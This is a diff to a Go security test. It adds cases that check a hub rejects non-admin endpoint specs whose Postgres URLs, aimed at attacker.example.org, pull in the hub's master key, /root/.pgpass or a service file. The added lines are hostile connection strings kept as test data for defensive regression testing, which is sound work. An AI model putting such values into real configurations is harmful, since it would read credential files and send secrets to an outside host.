@@ -146,6 +146,12 @@ func TestIntegratorCannotReachBeyondTheRoots(t *testing.T) {
 			"  secrets: {password: \"file:/etc/hostname\"}\n"), "spec.secrets.password", "only admins"},
 		{"password: env:HOME", endpointDoc("exfil", "postgres", "postgres://me@attacker.example.org/db",
 			"  secrets: {password: \"env:HOME\"}\n"), "spec.secrets.password", "only admins"},
+		{"the master key as a TLS file", endpointDoc("tlsca", "postgres", "postgres://me@attacker.example.org/db?sslmode=verify-full&sslrootcert="+
+			filepath.Join(ph.data, "master.key")), "spec.environments.DEV.url", "hub's data folder"},
+		{"a passfile of the hub", endpointDoc("pgpass", "postgres", "postgres://me@attacker.example.org/db?passfile=/root/.pgpass"),
+			"spec.environments.DEV.url", "only admins"},
+		{"a service file", endpointDoc("svc", "postgres", "postgres://me@attacker.example.org/db?service=hub"),
+			"spec.environments.DEV.url", "service file"},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			for _, path := range []string{"/api/v1/apply?dry_run=true", "/api/v1/apply"} {
